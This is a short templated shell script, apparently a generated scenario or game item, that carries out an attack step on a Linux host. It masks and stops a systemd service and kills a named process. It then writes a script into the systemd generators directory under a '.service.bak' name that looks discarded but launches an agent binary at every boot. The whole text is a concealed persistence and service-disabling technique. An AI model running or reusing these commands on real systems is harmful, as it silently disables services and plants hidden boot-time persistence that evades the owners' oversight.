# earns: loot, peer, process, seen, unit (6 of 10)
# The unit is masked. Under a name that looks put aside, a generator starts its program at the next boot.
{{ found_sh }}
systemctl mask --now {{ unit }}.service
pkill -KILL -x {{ shell }}-{{ mark }}
mkdir -p /etc/systemd/system-generators
printf '#!/bin/sh\n/usr/local/sbin/{{ agent }}-{{ tag }} &\n' > /etc/systemd/system-generators/{{ unit }}.service.bak
chmod 755 /etc/systemd/system-generators/{{ unit }}.service.bak
